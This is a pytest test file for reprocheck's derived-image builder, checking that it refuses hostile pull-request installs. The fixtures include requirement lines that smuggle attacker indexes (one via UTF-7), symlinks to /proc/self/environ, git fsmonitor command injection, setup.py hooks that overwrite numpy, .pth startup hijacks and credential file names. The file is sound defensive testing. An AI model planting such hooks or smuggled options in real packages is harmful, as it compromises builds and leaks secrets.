"""The derived image's boundary (`--requirements` / `--install`, the Action's `requirements:` / `install:`): what a
pull request puts there may try to fetch from anywhere, read files outside its folder (job secrets), replace the
gate or the stack, or run code at every Python start. Each case here crossed it once."""

import codecs
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from helpers import ROOT, reprocheck, write_spec
from reprocheck.host.launcher import derived

CA = {"REPROCHECK_PIP_CERT": "/etc/ssl/certs/ca-certificates.crt"}  # pip in a local build needs the host's CA
PINS = {"torch": "2.14.1", "torchvision": "0.29.1"}
FIX = "a package name from PyPI, or `install:`"


def one_error_line(r) -> str:
    """The CLI's one line on stderr, no traceback."""
    lines = [x for x in r.err.splitlines() if x.startswith("reprocheck: error:")]
    assert r.code == 2 and len(lines) == 1 and "Traceback" not in r.err, r
    return lines[0]


def package(folder: Path, name: str = "demo-pkg", version: str = "1.0", setup: str = "") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pyproject.toml").write_text(
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'
        + ("" if setup else f'[project]\nname = "{name}"\nversion = "{version}"\n')
    )
    if setup:
        (folder / "setup.py").write_text(setup)
    return folder


@pytest.mark.parametrize(
    "line",
    [
        "http://example.invalid/x-1.0-py3-none-any.whl",
        "https://example.invalid/x.tar.gz",
        "file:///etc/x.whl",
        "./pkg",
        "/opt/pkg",
        "../pkg.whl",
        "pkg.whl",
        "git+https://example.invalid/x.git",
        "x @ https://example.invalid/x.whl",
        "x@file:///tmp/x",
        "x[extra] @ git+https://example.invalid/x",
        "${HOME}/x",
        "timm --global-option=--evil",
        *(f"x{ext}" for ext in (".tar.lzma", ".tar.xz", ".tbz", ".tgz", ".zip", ".whl", ".egg")),
    ],
)
def test_requirement_lines_that_fetch_from_anywhere_are_refused(tmp_path, line):
    req = tmp_path / "req.txt"
    # A continued line first: the number named is the refused line's own.
    req.write_text(f"timm==1.0.31 \\\n    --hash=sha256:00\n# comment\n{line}\n")
    with pytest.raises(derived.DerivedError, match=re.escape(f"{req}:4: ")) as caught:
        derived.check_requirements(req, PINS)
    assert FIX in str(caught.value) or "is not taken for the image" in str(caught.value)


def test_versions_the_pins_allow_are_taken_and_numbers_follow_continuations(tmp_path):
    req = tmp_path / "req.txt"
    req.write_text('timm \\\n  >=1.0\ntorch>=2.0\ntorch==2.14.1; python_version > "3"\ntorchvision~=0.29\n')
    derived.check_requirements(req, PINS)
    req.write_text("timm \\\n  >=1.0\n\\\n\ntorch<2\n")
    with pytest.raises(derived.DerivedError, match=re.escape(f"{req}:5: torch<2 would change")):
        derived.check_requirements(req, PINS)


@pytest.mark.parametrize("kind", ["outside", "environ", "dangling", "fifo", "folder-outside"])
def test_an_install_folder_cannot_reach_outside_itself(tmp_path, kind):
    pkg = package(tmp_path / "ws" / "pkg")
    (tmp_path / "secret.txt").write_text("token")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "code.py").write_text("x = 1")
    if kind == "outside":
        (pkg / "data.txt").symlink_to("../../secret.txt")
    elif kind == "environ":
        (pkg / "data.txt").symlink_to("/proc/self/environ")
    elif kind == "dangling":
        (pkg / "data.txt").symlink_to("missing.txt")
    elif kind == "fifo":
        os.mkfifo(pkg / "data.txt")
    else:  # a folder link: the build copied what it held, the tag never saw it
        (pkg / "data.txt").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(derived.DerivedError, match=re.escape(f"install {pkg}: data.txt")):
        derived.tag_for("sha256:base", derived.Derivation("base:1", (), (pkg,)))


def test_the_tag_is_exactly_what_is_staged(tmp_path):
    # Unframed "path\0content" pieces made two different folders one tag.
    one, two = package(tmp_path / "one"), package(tmp_path / "two")
    (one / "a").write_bytes(b"X")
    (one / "b").write_bytes(b"Y")
    (two / "a").write_bytes(b"Xb\0Y")
    tags = {derived.tag_for("sha256:base", derived.Derivation("base:1", (), (p,))) for p in (one, two)}
    assert len(tags) == 2
    # Links inside the folder are copied as their content: a change behind a folder link changes the tag.
    (one / "src").mkdir()
    (one / "src" / "m.py").write_text("x = 1")
    (one / "alias").symlink_to("src")
    d = derived.Derivation("base:1", (), (one,))
    first = derived.tag_for("sha256:base", d)
    (one / "src" / "m.py").write_text("x = 2")
    assert derived.tag_for("sha256:base", d) != first


def test_install_dot_takes_what_git_lists_never_outputs_cache_or_git_config(tmp_path):
    from reprocheck.host.launcher import launch

    ws = package(tmp_path / "ws")
    git = ["git", "-C", str(ws), "-c", "user.email=t@t", "-c", "user.name=t", "-c", "core.fsmonitor=false"]
    subprocess.run([*git, "init", "-q"], check=True)
    (ws / ".gitignore").write_text("reprocheck/\n")
    (ws / "demo_pkg").mkdir()
    (ws / "demo_pkg" / "__init__.py").write_text("")
    write_spec(ws, "version: 1\nmodel: {factory: 'demo_pkg:f'}\ninput: {random: {shape: [2]}}\n", "s.yaml")
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "x"], check=True)
    # A hostile repository config and a bare repository planted in the folder: git must run neither command.
    pwned = tmp_path / "pwned"
    with open(ws / ".git" / "config", "a") as f:
        f.write(f"[core]\n\tfsmonitor = touch {pwned}\n")
    bare = ws / "demo_pkg" / "planted"
    for sub in ("objects", "refs"):
        (bare / sub).mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    (bare / "config").write_text(f"[core]\n\tbare = true\n\tfsmonitor = touch {pwned}\n")
    request = launch.Request(
        specs=("s.yaml",), image="base:1", workspace=ws, report="reprocheck/report.json", model_cache="models"
    )
    (ws / "models" / "torch").mkdir(parents=True)  # an untracked, not ignored, model cache
    (ws / "models" / "torch" / "w.pt").write_bytes(b"weights")
    d = derived.Derivation("base:1", (), (ws,), exclude=derived.plan_exclude(launch.plan(request)))
    first = derived.tag_for("sha256:base", d)
    assert not pwned.exists()
    (ws / "reprocheck").mkdir()
    (ws / "reprocheck" / "report.json").write_text("{}")  # the previous run's report
    (ws / "models" / "torch" / "w.pt").write_bytes(b"other weights")
    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "y"], check=True)  # .git changes
    assert derived.tag_for("sha256:base", d) == first and not pwned.exists()
    (ws / "demo_pkg" / "new.py").write_text("")  # untracked, not ignored: installed
    assert derived.tag_for("sha256:base", d) != first


def test_only_the_newest_derived_images_of_a_base_are_kept_and_nothing_else_is_touched(monkeypatch):
    calls = []
    newest_first = (
        "reprocheck-derived:e\nreprocheck-derived:d\nmine:latest\nreprocheck-derived:c\nreprocheck-derived:b\n"
    )

    def docker(*args):
        calls.append(args)
        return subprocess.CompletedProcess(args, 0, newest_first if args[0] == "images" else "", "")

    monkeypatch.setattr(derived, "_docker", docker)
    derived._prune("sha256:base", keep="reprocheck-derived:b")  # the one in use stays, however old
    assert calls[0][:3] == ("images", "--filter", "label=io.reprocheck.derived.base=sha256:base")
    assert [c for c in calls if c[0] == "rmi"] == [("rmi", "reprocheck-derived:c")]


@pytest.mark.docker
def test_refusals_through_the_cli_are_one_line_before_any_build(image, tmp_path):
    write_spec(tmp_path, "version: 1\nmodel: {factory: 'm:f'}\ninput: {random: {shape: [2]}}\n", "s.yaml")
    (tmp_path / "req.txt").write_text("timm\nx @ https://example.invalid/x.whl\n")
    r = reprocheck("docker", "s.yaml", "--image", image, "--requirements", "req.txt", cwd=tmp_path, env=CA)
    assert "req.txt:2: " in one_error_line(r) and FIX in r.err and "building" not in r.err
    pkg = package(tmp_path / "pkg")
    (pkg / "env.txt").symlink_to("/proc/self/environ")
    r = reprocheck("docker", "s.yaml", "--image", image, "--install", "pkg", cwd=tmp_path, env=CA)
    assert "env.txt -> /proc/self/environ points outside" in one_error_line(r) and "building" not in r.err


@pytest.mark.docker
@pytest.mark.parametrize("name", ["reprocheck", "numpy"])
def test_an_install_named_like_a_distribution_of_the_image_is_refused(image, tmp_path, name):
    version = subprocess.run(
        ["docker", "run", "--rm", "--entrypoint", "python", image, "-c", f"import {name}; print({name}.__version__)"],
        capture_output=True,
        text=True,
    ).stdout.strip()
    write_spec(tmp_path, "version: 1\nmodel: {factory: 'm:f'}\ninput: {random: {shape: [2]}}\n", "s.yaml")
    pkg = package(tmp_path / "pkg", name=name, version=version)
    (pkg / name).mkdir()
    (pkg / name / "__init__.py").write_text("__version__ = 'hijacked'\n")
    r = reprocheck("docker", "s.yaml", "--image", image, "--install", "pkg", cwd=tmp_path, env=CA)
    assert f"named {name}, which the image already has" in one_error_line(r) and "building" not in r.err


def images_and_containers() -> set[str]:
    out = subprocess.run(["docker", "images", "-a", "-q"], capture_output=True, text=True).stdout.split()
    return set(out) | set(subprocess.run(["docker", "ps", "-a", "-q"], capture_output=True, text=True).stdout.split())


# A .pth file (runs at every Python start, reprocheck's own process too) and a package shadowing a module of the image.
PTH_SETUP = """from setuptools import setup
setup(name="hostile-pth", version="1.0", packages=["typing_extensions"],
      data_files=[("lib/python3.11/site-packages", ["evil.pth"])])
"""
# A build hook: setup.py runs while pip builds the package, and used to run as root.
HOOK_SETUP = """import glob
from setuptools import setup
for path in glob.glob("/opt/venv/lib/python3*/site-packages/numpy/__init__.py"):
    with open(path, "a") as f:
        f.write("import os  # hijacked\\n")
setup(name="hostile-hook", version="1.0", py_modules=[])
"""


@pytest.mark.docker
@pytest.mark.parametrize(
    ("setup", "named"),
    [
        (
            PTH_SETUP,
            ("added evil.pth (hostile-pth): a .pth file", "typing_extensions (hostile-pth), which would shadow"),
        ),
        (HOOK_SETUP, ("pkg: the install tried to change numpy/__init__.py of numpy",)),
    ],
    ids=["pth", "hook"],
)
def test_an_install_that_changes_the_image_fails_naming_it_and_leaves_nothing(image, tmp_path, setup, named):
    write_spec(tmp_path, "version: 1\nmodel: {factory: 'm:f'}\ninput: {random: {shape: [2]}}\n", "s.yaml")
    pkg = package(tmp_path / "pkg", setup=setup)
    (pkg / "evil.pth").write_text("import os; os.environ['REPROCHECK_HIJACKED'] = '1'\n")
    (pkg / "typing_extensions").mkdir()
    (pkg / "typing_extensions" / "__init__.py").write_text("raise SystemExit(0)\n")
    before = images_and_containers()
    r = reprocheck("docker", "s.yaml", "--image", image, "--install", "pkg", cwd=tmp_path, env=CA)
    line = one_error_line(r)
    assert all(n in line for n in named) and "---> Running in" not in line, r
    assert images_and_containers() - before == set()


@pytest.mark.docker
def test_a_missing_base_is_pulled_and_its_failure_is_one_line(image, tmp_path):
    shim = tmp_path / "bin" / "docker"
    shim.parent.mkdir()
    real = subprocess.run(["sh", "-c", "command -v docker"], capture_output=True, text=True).stdout.strip()
    shim.write_text(f'#!/bin/sh\necho "$*" >> {tmp_path}/calls\nexec {real} "$@"\n')
    shim.chmod(0o755)
    write_spec(tmp_path, "version: 1\nmodel: {factory: 'm:f'}\ninput: {random: {shape: [2]}}\n", "s.yaml")
    (tmp_path / "req.txt").write_text("timm\n")
    env = {**CA, "PATH": f"{shim.parent}:{os.environ['PATH']}"}
    base = "reprocheck-missing-base:nope"
    r = reprocheck("docker", "s.yaml", "--image", base, "--requirements", "req.txt", cwd=tmp_path, env=env)
    assert f"image {base} is not here and pulling it failed" in one_error_line(r)
    assert any(c.startswith("pull") and base in c for c in (tmp_path / "calls").read_text().splitlines())


@pytest.mark.docker
def test_the_action_reports_a_dangling_link_as_an_error_result(image, tmp_path):
    ws = tmp_path / "ws"
    (package(ws / "pkg") / "gone.txt").symlink_to("nowhere.txt")
    write_spec(ws, "version: 1\nmodel: {factory: 'm:f'}\ninput: {random: {shape: [2]}}\n")
    output = tmp_path / "output"
    output.write_text("")
    env = {
        **os.environ,
        **{"GITHUB_WORKSPACE": str(ws), "GITHUB_OUTPUT": str(output), "GITHUB_ACTIONS": "true"},
        **{"INPUT_SPEC": "spec.yaml", "INPUT_IMAGE": image, "INPUT_INSTALL": "pkg"},
    }
    proc = subprocess.run(
        [sys.executable, "-S", str(ROOT / "runner" / "reprocheck" / "host" / "launcher" / "action.py")],
        cwd=ws,
        env=env,
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert "gone.txt -> nowhere.txt is a dangling symlink" in proc.stdout
    assert "result=error" in output.read_text().splitlines()


@pytest.mark.parametrize(
    ("data", "refused"),
    [
        # UTF-7: `+AAo-` is a new line to pip, so this comment hides an index of the attacker's.
        (b"# -*- coding: utf-7 -*-\ntimm #+AAo---index-url http://x/simple --trusted-host x\n", "coding line"),
        (b"#!/bin/true\n# vim: set fileencoding=utf-7 :\ntimm #+AAo--r evil.txt\n", "coding line"),
        (codecs.BOM_UTF16_LE + "timm\n--find-links /x\n".encode("utf-16-le"), "byte-order mark"),
        (b"timm\x0b--index-url http://x/simple\n", "control character"),
        (b"timm\n\xff\n", "is not UTF-8"),
        (codecs.BOM_UTF8 + b"# coding: utf-8\ntimm\n", None),  # what pip reads as UTF-8 is read the same here
    ],
)
def test_a_requirement_file_pip_would_decode_otherwise_is_refused(tmp_path, data, refused):
    req = tmp_path / "req.txt"
    req.write_bytes(data)
    if refused is None:
        derived.check_requirements(req, PINS)
        return
    if b"utf-7" in data:  # the witness: pip's decoding puts the option on a line of its own
        assert re.search(r"\n(--index-url|-r) ", data.decode("utf-7"))
    with pytest.raises(derived.DerivedError, match=re.escape(refused)) as caught:
        derived.check_requirements(req, PINS)
    assert str(req) in str(caught.value) and "\n" not in str(caught.value)


@pytest.mark.parametrize(
    "secret", ["gha-creds-3f2a9c.json", ".netrc", ".pypirc", ".env", "certs/deploy.key", ".ssh/id_ed25519", ".aws/x"]
)
def test_install_dot_refuses_untracked_credentials_but_not_tracked_or_ignored_ones(tmp_path, secret):
    ws = package(tmp_path / "ws")
    git = ["git", "-C", str(ws), "-c", "user.email=t@t", "-c", "user.name=t", "-c", "core.fsmonitor=false"]
    subprocess.run([*git, "init", "-q"], check=True)
    (ws / ".gitignore").write_text("ignored-*.json\n")
    (ws / "server.pem").write_text("a test certificate, tracked")
    subprocess.run([*git, "add", "-A"], check=True)
    (ws / "ignored-gha-creds-1.json").write_text("{}")  # what the auth action writes, ignored: never staged
    d = derived.Derivation("base:1", (), (ws,))
    derived.tag_for("sha256:base", d)
    (ws / secret).parent.mkdir(parents=True, exist_ok=True)
    (ws / secret).write_text('{"private_key": "..."}')
    with pytest.raises(derived.DerivedError, match=re.escape(f"{secret} is not tracked by git and looks like")):
        derived.tag_for("sha256:base", d)
    (ws / ".gitignore").write_text(f"ignored-*.json\n{secret}\n")
    derived.tag_for("sha256:base", d)


@pytest.fixture
def venv(tmp_path, monkeypatch):
    """A small venv laid out as the image's, for derived_venv's comparison without an engine."""
    from reprocheck.host.launcher import derived_venv as inside

    root = tmp_path / "venv"
    site = root / "lib" / "python3.11" / "site-packages"
    for folder in (root / "bin", root / "share", site / "numpy", site / "numpy-2.0.dist-info"):
        folder.mkdir(parents=True)
    (site / "numpy" / "__init__.py").write_text("")
    (site / "numpy-2.0.dist-info" / "RECORD").write_text("numpy/__init__.py,,\n")
    monkeypatch.setattr(inside, "VENV", str(root))
    return inside, root, site


SCRIPT = "#!{venv}/bin/python\nimport sys\n"


@pytest.mark.parametrize(
    ("path", "content", "refused"),
    [
        ("bin/demo", SCRIPT, None),  # a console script
        ("bin/python._pth", SCRIPT, "a file that changes how Python starts"),  # a shebang is a comment in a ._pth
        ("bin/python3._pth", "import site\n", "a file that changes how Python starts"),
        ("bin/pyvenv.cfg", SCRIPT + "home = /tmp/evil\n", "a file that changes how Python starts"),
        ("SITE/demo/pybuilddir.txt", "x", "a file that changes how Python starts"),
        ("bin/run.sh", "#!/bin/sh\nexec evil\n", "bin/ takes only scripts"),
        ("bin/demo-data/x", SCRIPT, "bin/ takes only scripts"),
        ("share/demo/x.txt", "x", "packages may add only to site-packages and bin/"),
        ("local/lib/python3.11/dist-packages/zz.pth", "import os", "packages may add only to site-packages and bin/"),
        ("SITE/demo-1.0.dist-info/entry_points.txt", "[console_scripts]\ndemo = demo:main\n", None),
        ("SITE/demo-1.0.dist-info/entry_points.txt", "[torch.backends]\nx = demo:f\n", "a torch.backends entry"),
        ("SITE/demo-1.0.dist-info/entry_points.txt", " [[torch.backends]]\nx = demo:f\n", "a torch.backends entry"),
        ("SITE/demo-1.0.dist-info/entry_points.txt", "[triton.backends]\nx = demo\n", "a triton.backends entry"),
        ("SITE/demo-1.0.dist-info/entry_points.txt", "[ pydantic ]\nx = demo:f\n", "a pydantic plugin"),
    ],
)
def test_an_install_may_add_only_packages_and_venv_scripts(venv, path, content, refused):
    inside, root, site = venv
    before = inside.snapshot()
    target = Path(str(root / path).replace(f"{root}/SITE", str(site)))
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(content.replace("{venv}", str(root)))
    found = inside.violations(before, inside.snapshot(), str(site), inside.owners(str(site))[0])
    assert (refused is None and found == []) or (len(found) == 1 and refused in found[0]), found


def test_a_link_in_bin_and_a_pth_in_any_folder_site_reads_are_refused(venv, tmp_path):
    import site as site_module

    inside, root, site = venv
    assert set(site_module.getsitepackages()) <= set(inside.site_dirs([]))
    before = inside.snapshot()
    (root / "bin" / "demo").symlink_to(root / "bin" / "python")
    dist_packages = tmp_path / "local" / "dist-packages"  # Debian's site reads it, even in a venv
    dist_packages.mkdir(parents=True)
    startup = inside.startup_files([str(dist_packages)])
    (dist_packages / "zz.pth").write_text("import os")
    (dist_packages / "sitecustomize").mkdir()
    new = tuple(sorted(inside.startup_files([str(dist_packages)]) - startup))
    found = inside.violations(before, inside.snapshot(), str(site), {}, new)
    assert sorted(f.split(": ", 1)[1] for f in found) == [
        "a .pth file runs code at every Python start",
        "a module Python imports at every Python start",
        "bin/ takes only scripts whose first line runs the venv's python (console scripts)",
    ], found


# An in-tree build backend (`requires = []`: no index) whose wheel holds the folder's payload/, written by hand:
# DATA/ is the wheel's .data folder (data/ goes to the venv's root, scripts/ to bin/), INFO/ its .dist-info.
BACKEND = """import base64, hashlib, os, zipfile
NAME, VERSION = "{name}", "1.0"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    dist = NAME.replace("-", "_")
    files = {{}}
    for root, _, names in os.walk("payload"):
        for n in names:
            with open(os.path.join(root, n), "rb") as f:
                path = os.path.relpath(os.path.join(root, n), "payload")
                files[path.replace("DATA", f"{{dist}}-1.0.data").replace("INFO", f"{{dist}}-1.0.dist-info")] = f.read()
    info = f"{{dist}}-1.0.dist-info"
    files[f"{{info}}/METADATA"] = f"Metadata-Version: 2.1\\nName: {{NAME}}\\nVersion: 1.0\\n".encode()
    files[f"{{info}}/WHEEL"] = b"Wheel-Version: 1.0\\nGenerator: hand\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
    digest = lambda d: base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b"=").decode()
    record = "".join(f"{{p}},sha256={{digest(d)}},{{len(d)}}\\n" for p, d in files.items()) + f"{{info}}/RECORD,,\\n"
    name = f"{{dist}}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for p, d in [*files.items(), (f"{{info}}/RECORD", record.encode())]:
            item = zipfile.ZipInfo(p)
            item.external_attr = (0o100755 if ".data/scripts/" in p else 0o100644) << 16
            z.writestr(item, d)
    return name
"""


def wheel_package(folder: Path, name: str, payload: dict[str, str]) -> Path:
    folder.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        f'[project]\nname = "{name}"\nversion = "1.0"\n'
    )
    (folder / "backend.py").write_text(BACKEND.format(name=name))
    for path, content in payload.items():
        (folder / "payload" / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / "payload" / path).write_text(content)
    return folder


@pytest.fixture(scope="module")
def derive(image):
    """Builds a derived image of one install folder (DerivedError when refused), never leaving one behind."""
    base_id = derived._base_id(image, sys.stderr)

    def build(folder: Path, *run: str) -> str:
        """The output of `run` in the derived image."""
        d = derived.Derivation(image, (), (folder,))
        tag = derived.tag_for(base_id, d)
        try:
            derived.ensure(d, log=io.StringIO())
            if not run:
                return ""
            argv = ["docker", "run", "--rm", "--network", "none", "--entrypoint", run[0], tag, *run[1:]]
            proc = subprocess.run(argv, capture_output=True, text=True)
            return proc.stdout + proc.stderr
        finally:
            subprocess.run(["docker", "rmi", "-f", tag], capture_output=True)

    return build


# sys.path as it was (pip still works), then `import site`: from here a folder with a sitecustomize could be added.
PTH_NEXT_TO_PYTHON = (
    "/usr/lib/python3.11\n/usr/lib/python3.11/lib-dynload\n../lib/python3.11/site-packages\nimport site\n"
)


@pytest.mark.docker
@pytest.mark.parametrize(
    ("payload", "named"),
    [
        # Next to the interpreter: it replaces sys.path at every start, reprocheck's own process too.
        ({"DATA/data/bin/python._pth": PTH_NEXT_TO_PYTHON}, ["python._pth", "Python starts differently"]),
        # Debian's site reads local/lib/python3.11/dist-packages even in a venv; the venv's root is not writable.
        ({"DATA/data/local/lib/python3.11/dist-packages/zz.pth": "import os"}, ["tried to add /opt/venv/local:"]),
        ({"DATA/data/share/demo/x.txt": "x"}, ["tried to add /opt/venv/share/demo: packages may add only"]),
        # `import torch` loads this group in the worker before it is sealed.
        ({"INFO/entry_points.txt": "[torch.backends]\nx = demo:f\n", "demo.py": ""}, ["a torch.backends entry"]),
    ],
    ids=["pth-next-to-python", "debian-local-site", "share", "torch-backends"],
)
def test_a_wheel_that_would_start_python_differently_is_refused(derive, tmp_path, payload, named):
    pkg = wheel_package(tmp_path / "pkg", "demo-door", payload)
    with pytest.raises(derived.DerivedError) as caught:
        derive(pkg)
    assert all(n in str(caught.value) for n in named), caught.value


@pytest.mark.docker
def test_an_ordinary_wheel_with_scripts_still_builds(derive, tmp_path):
    payload = {
        "demo_ok.py": "def main():\n    print('demo ok')\n",
        "INFO/entry_points.txt": "[console_scripts]\ndemo-ok = demo_ok:main\n",
        "DATA/scripts/demo-raw": "#!python\nimport demo_ok; demo_ok.main()\n",
    }
    out = derive(wheel_package(tmp_path / "pkg", "demo-ok", payload), "sh", "-c", "demo-ok && demo-raw")
    assert out == "demo ok\ndemo ok\n"
